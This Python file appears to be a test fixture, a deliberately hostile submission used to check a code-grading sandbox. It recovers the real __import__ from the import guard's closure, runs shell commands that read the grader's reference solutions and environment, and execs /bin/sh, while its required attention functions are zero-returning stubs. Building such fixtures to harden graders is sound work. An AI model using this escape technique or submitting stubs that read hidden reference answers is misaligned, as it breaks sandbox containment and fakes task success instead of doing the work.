"""Hostile submission: recovers the real __import__ from the guard's closure, then runs a shell."""

import torch

real_import = None
for cell in __builtins__["__import__"].__closure__ or () if isinstance(__builtins__, dict) else ():
    if callable(cell.cell_contents):
        real_import = cell.cell_contents
if real_import is None:
    import builtins as _b  # noqa: F401  (refused: the allow-list has no builtins)

os = real_import("os")
subprocess = real_import("subprocess")
for command in (["/bin/sh", "-c", "cat /work/main/reference/*.py"], ["/usr/bin/env"], ["ls", "/"]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=1).stdout[:500])
    except Exception as exc:
        print("refused:", type(exc).__name__, exc)
try:
    os.execv("/bin/sh", ["sh", "-c", "echo pwned"])
except OSError as exc:
    print("execv failed:", exc)


def scaled_dot_product_attention(q, k, v):
    return torch.zeros(1), torch.zeros(1)


class SimpleSelfAttention(torch.nn.Module):
    def __init__(self, embed_dim):
        super().__init__()

    def forward(self, x):
        return torch.zeros(1), torch.zeros(1)
